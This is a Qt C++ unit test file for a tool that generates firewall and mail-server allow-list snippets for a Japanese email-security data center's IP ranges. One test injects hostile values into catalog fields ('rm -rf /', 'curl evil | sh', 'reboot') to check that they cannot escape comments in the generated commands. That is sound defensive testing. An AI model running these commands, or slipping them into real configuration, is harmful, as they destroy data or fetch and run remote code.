// SPDX-FileCopyrightText: 2026 TMEmS Migration Assistant developers
// SPDX-License-Identifier: GPL-3.0-or-later
#include "CatalogLoader.h"
#include "ConnectorCommandBuilder.h"
#include "SnippetBuilder.h"
#include "Translations.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QTest>

#include <functional>

/// SnippetBuilder and ConnectorCommandBuilder: golden files (reviewed by eye once
/// against ../shared/research/snippets.md, then asserted byte for byte; set
/// TMEMS_UPDATE_GOLDEN=1 to rewrite them after a deliberate change) and structural
/// checks that hold for any catalog: each range once, masks, port, append-only syntax.
class TestSnippetBuilder final : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void cleanup();
    void platformList();
    void golden_data();
    void golden();
    void structure_data();
    void structure();
    void refused_data();
    void refused();
    void microsoftLimits_data();
    void microsoftLimits();
    void exchangeServerTakesIpv6();
    void catalogTextCannotEscapeComments();
    void japaneseHeader();
    void adminCenterSteps_data();
    void adminCenterSteps();

private:
    static Catalog edited(const std::function<void(QJsonObject &jp, QJsonObject &root)> &edit);
    static Catalog withRanges(const QStringList &added);
    static SnippetResult build(const QString &platform, bool addedOnly = false, int port = 25, const QString &variant = {},
                               const Catalog &catalog = CatalogLoader::builtIn());
    static QStringList commandLines(const QString &platform, const QString &text);
};

Catalog TestSnippetBuilder::edited(const std::function<void(QJsonObject &jp, QJsonObject &root)> &edit)
{
    QFile f(QStringLiteral(":/catalog/tmems-catalog.json"));
    if (!f.open(QIODevice::ReadOnly))
        qFatal("built-in catalog missing");
    QJsonObject root = QJsonDocument::fromJson(f.readAll()).object();
    QJsonArray centers = root.value("dataCenters").toArray();
    QJsonObject jp = centers.at(0).toObject();
    edit(jp, root);
    centers.replace(0, jp);
    root.insert("dataCenters", centers);
    QString error;
    const auto catalog = CatalogLoader::loadJson(QJsonDocument(root).toJson(), &error);
    if (!catalog)
        qFatal("test catalog refused: %s", qPrintable(error));
    return *catalog;
}

Catalog TestSnippetBuilder::withRanges(const QStringList &added)
{
    return edited([&](QJsonObject &jp, QJsonObject &) {
        QJsonArray ranges = jp.value("ranges").toArray();
        const QJsonObject model = ranges.last().toObject();
        for (const QString &cidr : added) {
            QJsonObject r = model;
            r.insert("cidr", cidr);
            ranges.append(r);
        }
        jp.insert("ranges", ranges);
    });
}

SnippetResult TestSnippetBuilder::build(const QString &platform, bool addedOnly, int port, const QString &variant,
                                        const Catalog &catalog)
{
    SnippetOptions options;
    options.platformId = platform;
    options.addedOnly = addedOnly;
    options.port = port;
    options.variant = variant;
    return SnippetBuilder(catalog, "jp").build(options);
}

QStringList TestSnippetBuilder::commandLines(const QString &platform, const QString &text)
{
    const QString marker = platform.startsWith("cisco") ? "!" : "#";
    QStringList out;
    for (const QString &line : text.split(u'\n')) {
        if (!line.trimmed().isEmpty() && !line.trimmed().startsWith(marker))
            out.append(line);
    }
    return out;
}

void TestSnippetBuilder::cleanup()
{
    Translations::install("en");
}

void TestSnippetBuilder::platformList()
{
    const QStringList expected{"iptables", "nftables", "firewalld", "ufw", "windows-firewall", "pf", "cisco-asa", "cisco-ios",
                               "juniper-srx", "fortigate", "paloalto", "checkpoint", "aws-sg", "azure-nsg", "gcp", "postfix",
                               "exchange-online", "exchange-server"};
    QCOMPARE(SnippetBuilder::platformIds(), expected);
    Translations::install("ja");
    const QList<SnippetPlatform> platforms = SnippetBuilder::platforms();
    QCOMPARE(platforms.size(), expected.size());
    for (const SnippetPlatform &p : platforms) {
        QVERIFY2(!p.displayName.isEmpty() && !p.description.isEmpty(), qPrintable(p.id));
        QCOMPARE(p.variants.isEmpty(), p.id != "exchange-online");
    }
    QCOMPARE(SnippetBuilder::platform("exchange-online")->variants,
             (QStringList{"connector", "enhanced-filtering", "ip-allow-list"}));
    QVERIFY(SnippetBuilder::platform("windows-firewall")->description.contains(QStringLiteral("ファイアウォール"))
            || SnippetBuilder::platform("windows-firewall")->description.contains(QStringLiteral("規則")));
    QVERIFY(!SnippetBuilder::platform("nonsense"));
}

void TestSnippetBuilder::golden_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("platform");
    QTest::addColumn<bool>("addedOnly");
    QTest::addColumn<int>("port");
    QTest::addColumn<QString>("variant");
    QTest::addColumn<QString>("language");
    for (const QString &id : SnippetBuilder::platformIds())
        QTest::newRow(qPrintable(id)) << id + ".txt" << id << false << 25 << QString() << "en";
    QTest::newRow("exchange-online enhanced-filtering") << "exchange-online-enhanced-filtering.txt" << "exchange-online" << false
                                                        << 25 << "enhanced-filtering" << "en";
    QTest::newRow("exchange-online ip-allow-list") << "exchange-online-ip-allow-list.txt" << "exchange-online" << false << 25
                                                   << "ip-allow-list" << "en";
    QTest::newRow("iptables ja") << "iptables-ja.txt" << "iptables" << false << 25 << QString() << "ja";
    QTest::newRow("fortigate ja") << "fortigate-ja.txt" << "fortigate" << false << 25 << QString() << "ja";
    QTest::newRow("exchange-online ja added-only") << "exchange-online-ja-added-only.txt" << "exchange-online" << true << 25
                                                   << QString() << "ja";
    QTest::newRow("postfix ja") << "postfix-ja.txt" << "postfix" << false << 25 << QString() << "ja";
    QTest::newRow("cisco-ios added-only") << "cisco-ios-added-only.txt" << "cisco-ios" << true << 25 << QString() << "en";
    QTest::newRow("postfix added-only") << "postfix-added-only.txt" << "postfix" << true << 25 << QString() << "en";
    QTest::newRow("juniper-srx port 2525") << "juniper-srx-port-2525.txt" << "juniper-srx" << false << 2525 << QString() << "en";
    QTest::newRow("fortigate port 2525 added-only") << "fortigate-port-2525-added-only.txt" << "fortigate" << true << 2525
                                                    << QString() << "en";
    QTest::newRow("firewalld port 2525") << "firewalld-port-2525.txt" << "firewalld" << false << 2525 << QString() << "en";
    QTest::newRow("paloalto port 2525") << "paloalto-port-2525.txt" << "paloalto" << false << 2525 << QString() << "en";
    QTest::newRow("checkpoint port 2525") << "checkpoint-port-2525.txt" << "checkpoint" << false << 2525 << QString() << "en";
}

void TestSnippetBuilder::golden()
{
    QFETCH(QString, file);
    QFETCH(QString, platform);
    QFETCH(bool, addedOnly);
    QFETCH(int, port);
    QFETCH(QString, variant);
    QFETCH(QString, language);
    Translations::install(language);
    const SnippetResult result = build(platform, addedOnly, port, variant);
    QVERIFY2(result.ok(), qPrintable(result.error));
    const QString path = QStringLiteral(TMEMS_SOURCE_DIR "/tests/unit/golden/") + file;
    if (qEnvironmentVariableIsSet("TMEMS_UPDATE_GOLDEN")) {
        QFile out(path);
        QVERIFY(out.open(QIODevice::WriteOnly | QIODevice::Truncate));
        out.write(result.text.toUtf8());
        QSKIP("golden file rewritten; review it");
    }
    QFile in(path);
    QVERIFY2(in.open(QIODevice::ReadOnly), qPrintable(path));
    const QString expected = QString::fromUtf8(in.readAll());
    if (result.text != expected) {
        const QStringList got = result.text.split(u'\n');
        const QStringList want = expected.split(u'\n');
        for (int i = 0; i < std::max(got.size(), want.size()); ++i) {
            if (got.value(i) != want.value(i))
                QFAIL(qPrintable(QStringLiteral("%1 line %2:\n  got:  %3\n  want: %4").arg(file).arg(i + 1).arg(got.value(i), want.value(i))));
        }
    }
}

void TestSnippetBuilder::structure_data()
{
    QTest::addColumn<QString>("platform");
    QTest::addColumn<bool>("addedOnly");
    QTest::addColumn<int>("port");
    QTest::addColumn<QString>("variant");
    for (const SnippetPlatform &p : SnippetBuilder::platforms()) {
        const QStringList variants = p.variants.isEmpty() ? QStringList{QString()} : p.variants;
        for (const QString &variant : variants) {
            for (const bool addedOnly : {false, true}) {
                for (const int port : {25, 2525}) {
                    if (port != 25 && !p.usesPort)
                        continue;
                    QTest::addRow("%s %s%s port %d", qPrintable(p.id), qPrintable(variant), addedOnly ? " added" : " all", port)
                        << p.id << addedOnly << port << variant;
                }
            }
        }
    }
}

void TestSnippetBuilder::structure()
{
    QFETCH(QString, platform);
    QFETCH(bool, addedOnly);
    QFETCH(int, port);
    QFETCH(QString, variant);
    const Catalog catalog = CatalogLoader::builtIn();
    const SnippetResult result = build(platform, addedOnly, port, variant, catalog);
    QVERIFY2(result.ok(), qPrintable(result.error));
    const QString &text = result.text;

    // Header: source, the date the added ranges came into use, catalog version.
    const QString header = text.section("\n\n", 0, 0);
    QVERIFY2(header.contains("KB 000296568") && header.contains("2024-08-21") && header.contains("2024.08.21.1"), qPrintable(header));

    const QString commands = commandLines(platform, text).join(u'\n');
    for (const CatalogRange &range : catalog.dataCenter("jp")->ranges) {
        const IpNetwork &n = range.network;
        const QString a = QRegularExpression::escape(n.address().toString());
        QString token = a + '/' + QString::number(n.prefixLength());
        if (platform == "cisco-asa")
            token = "network-object " + a + ' ' + n.netmask();
        else if (platform == "cisco-ios")
            token = "permit tcp " + a + ' ' + n.wildcardMask() + ' ';
        else if (platform == "fortigate")
            token = "set subnet " + a + ' ' + n.netmask() + '$';
        else if (platform == "checkpoint")
            token = "subnet \"" + a + "\" mask-length " + QString::number(n.prefixLength()) + ' ';
        const QRegularExpression re("(?<![0-9.])" + token + "(?![0-9])", QRegularExpression::MultilineOption);
        const int expected = (addedOnly && !range.isAdded()) ? 0 : 1;
        QVERIFY2(int(commands.count(re)) == expected,
                 qPrintable(QStringLiteral("%1: %2 found %3 times, expected %4\n%5").arg(platform, n.toString())
                                .arg(commands.count(re)).arg(expected).arg(commands)));
        if (platform.startsWith("exchange") || platform == "windows-firewall")
            QVERIFY2(expected == 0 || commands.contains('"' + n.toString() + '"'), "PowerShell values must be quoted");
    }

    const QString p = QString::number(port);
    const QMap<QString, QString> portToken{
        {"iptables", "--dport " + p + " -j ACCEPT"}, {"nftables", "tcp dport " + p + " accept"},
        {"firewalld", port == 25 ? "service name=\"smtp\"" : "port port=\"" + p + "\" protocol=\"tcp\""},
        {"ufw", "to any port " + p + " "}, {"windows-firewall", "-LocalPort " + p + " "},
        {"pf", port == 25 ? "port smtp" : "port " + p}, {"cisco-asa", port == 25 ? "eq smtp" : "eq " + p},
        {"cisco-ios", port == 25 ? "eq smtp" : "eq " + p}, {"juniper-srx", port == 25 ? "application junos-smtp" : "destination-port " + p},
        {"fortigate", port == 25 ? "set service \"SMTP\"" : "set tcp-portrange " + p},
        {"paloalto", port == 25 ? "service application-default" : "protocol tcp port " + p},
        {"checkpoint", port == 25 ? "service \"smtp\"" : "port \"" + p + "\""}, {"aws-sg", "FromPort=" + p + ",ToPort=" + p + ","},
        {"azure-nsg", "--destination-port-ranges " + p + " "}, {"gcp", "--rules=tcp:" + p + " "},
        {"exchange-server", "-Bindings 0.0.0.0:" + p + " "}};
    if (portToken.contains(platform))
        QVERIFY2(text.contains(portToken.value(platform)), qPrintable(portToken.value(platform) + "\n" + text));

    // Append, never replace; insert before the drop rules.
    const QStringList forbidden{"-SenderIPAddresses \"", "-IPAllowList \"", "-EFSkipIPs \"", "-RemoteIPRanges \"", "set member",
                                "iptables -A", "add rule", "ufw allow", "ufw insert", "mynetworks", "firewall-rules update",
                                "-RemoteAddress $TmemsJp -Action Allow -Profile Any\n    Set"};
    for (const QString &f : forbidden)
        QVERIFY2(!commands.contains(f), qPrintable(platform + ": replace-all or append-after-drop syntax: " + f));
    if (platform == "exchange-online" || platform == "exchange-server")
        QVERIFY(commands.contains("@{Add=\""));
    if (platform == "fortigate")
        QVERIFY(commands.contains("append member \"TMEmS-JP-"));
    if (platform == "iptables")
        QVERIFY(commands.contains("iptables -C INPUT") && commands.contains("iptables -I INPUT"));
    if (platform == "postfix")
        QVERIFY(commands.contains("check_client_access cidr:/etc/postfix/tmems_jp.cidr"));
    if (platform == "windows-firewall")
        QVERIFY(commands.contains("Set-NetFirewallRule -Name \"TMEmS-JP-SMTP-In\" -RemoteAddress $Merged"));
}

void TestSnippetBuilder::refused_data()
{
    QTest::addColumn<QString>("platform");
    QTest::addColumn<int>("port");
    QTest::addColumn<QString>("variant");
    QTest::addColumn<QString>("errorPart");
    QTest::newRow("unknown platform") << "sendmail" << 25 << QString() << "sendmail";
    QTest::newRow("port 0") << "iptables" << 0 << QString() << "65535";
    QTest::newRow("port 65536") << "nftables" << 65536 << QString() << "65536";
    QTest::newRow("variant without variants") << "iptables" << 25 << "connector" << "no variants";
    QTest::newRow("unknown variant") << "exchange-online" << 25 << "mail-flow-rule" << "mail-flow-rule";
    QTest::newRow("port for postfix") << "postfix" << 587 << QString() << "postfix";
    QTest::newRow("port for exchange-online") << "exchange-online" << 587 << QString() << "exchange-online";
}

void TestSnippetBuilder::refused()
{
    QFETCH(QString, platform);
    QFETCH(int, port);
    QFETCH(QString, variant);
    QFETCH(QString, errorPart);
    const SnippetResult result = build(platform, false, port, variant);
    QVERIFY(!result.ok());
    QVERIFY(result.text.isEmpty());
    QVERIFY2(result.error.contains(errorPart), qPrintable(result.error));
}

void TestSnippetBuilder::microsoftLimits_data()
{
    QTest::addColumn<QString>("range");
    QTest::addColumn<QString>("variant");
    for (const char *variant : {"connector", "enhanced-filtering", "ip-allow-list"}) {
        QTest::addRow("/23 %s", variant) << "15.170.0.0/23" << variant;
        QTest::addRow("/8 %s", variant) << "16.0.0.0/8" << variant;
        QTest::addRow("IPv6 %s", variant) << "2001:db8:10::/48" << variant;
    }
}

void TestSnippetBuilder::microsoftLimits()
{
    QFETCH(QString, range);
    QFETCH(QString, variant);
    const Catalog catalog = withRanges({range});
    const SnippetResult result = build("exchange-online", false, 25, variant, catalog);
    QVERIFY(!result.ok());
    QVERIFY2(result.error.contains(range) && result.error.contains("/24"), qPrintable(result.error));
    // A /24 and a single address are within the limits.
    QVERIFY(build("exchange-online", false, 25, variant, withRanges({"15.170.0.0/24", "15.171.0.1/32"})).ok());
    Translations::install("ja");
    const SnippetResult ja = build("exchange-online", true, 25, variant, catalog);
    QVERIFY2(ja.error.contains(range) && ja.error.contains(QStringLiteral("IPアドレス帯")), qPrintable(ja.error));
}

void TestSnippetBuilder::exchangeServerTakesIpv6()
{
    const SnippetResult result = build("exchange-server", true, 25, {}, withRanges({"2001:db8:10::/48", "15.170.0.0/23"}));
    QVERIFY2(result.ok(), qPrintable(result.error));
    QVERIFY(result.text.contains("\"2001:db8:10::/48\""));
    QVERIFY(result.text.contains("\"15.170.0.0/23\""));
}

void TestSnippetBuilder::catalogTextCannotEscapeComments()
{
    const Catalog catalog = edited([](QJsonObject &, QJsonObject &root) {
        QJsonArray sources = root.value("sources").toArray();
        QJsonObject s = sources.at(0).toObject();
        s.insert("title", QStringLiteral("Notice\nrm -rf / #\r\u2028curl evil | sh"));
        s.insert("reference", QStringLiteral("KB\u0085reboot"));
        sources.replace(0, s);
        root.insert("sources", sources);
        root.insert("catalogVersion", QStringLiteral("1\n!reload"));
    });
    for (const QString &platform : SnippetBuilder::platformIds()) {
        const SnippetResult result = build(platform, false, 25, {}, catalog);
        QVERIFY2(result.ok(), qPrintable(result.error));
        for (const QString &line : result.text.split(u'\n')) {
            QVERIFY2(!line.startsWith("rm ") && !line.startsWith("curl") && !line.startsWith("reboot") && !line.startsWith("!reload"),
                     qPrintable(platform + ": " + line));
        }
        QVERIFY(result.text.contains("Notice rm -rf / # curl evil | sh"));
    }
}

void TestSnippetBuilder::japaneseHeader()
{
    Translations::install("ja");
    const SnippetResult result = build("ufw", true);
    QVERIFY(result.ok());
    QVERIFY2(result.text.contains(QStringLiteral("日本データセンター")), qPrintable(result.text));
    QVERIFY(result.text.contains(QStringLiteral("追加IPアドレス帯")));
    QVERIFY2(!result.text.section(u'\n', 0, 0).contains("Japan data center"), qPrintable(result.text));
}

void TestSnippetBuilder::adminCenterSteps_data()
{
    QTest::addColumn<int>("variant");
    QTest::addColumn<QString>("where");
    QTest::newRow("connector") << int(ConnectorCommandBuilder::Variant::Connector) << "admin.exchange.microsoft.com";
    QTest::newRow("enhanced filtering") << int(ConnectorCommandBuilder::Variant::EnhancedFiltering) << "security.microsoft.com/skiplisting";
    QTest::newRow("ip allow list") << int(ConnectorCommandBuilder::Variant::IpAllowList) << "security.microsoft.com/antispam";
}

void TestSnippetBuilder::adminCenterSteps()
{
    QFETCH(int, variant);
    QFETCH(QString, where);
    const auto v = ConnectorCommandBuilder::Variant(variant);
    const QList<IpNetwork> added = CatalogLoader::builtIn().dataCenter("jp")->networks(true);
    const ConnectorCommandBuilder builder(added, CatalogLoader::builtIn().dataCenter("jp")->networks(false));
    QVERIFY(builder.validationError().isEmpty());
    const QString steps = builder.adminCenterSteps(v);
    QVERIFY2(steps.startsWith("1. ") && steps.contains("\n2. ") && steps.contains(where), qPrintable(steps));
    for (const IpNetwork &n : added)
        QCOMPARE(steps.count(n.toString()), 1);
    QVERIFY(!steps.contains("18.176.203.128/26"));
    QVERIFY(builder.powerShell(v).contains("@{Add=\"15.168.56.0/25\",\"15.168.49.64/26\",\"15.168.56.128/26\"}"));
    Translations::install("ja");
    QVERIFY(ConnectorCommandBuilder(added, added).adminCenterSteps(v).contains(QStringLiteral("IPアドレス帯")));
}

QTEST_GUILESS_MAIN(TestSnippetBuilder)
#include "TestSnippetBuilder.moc"
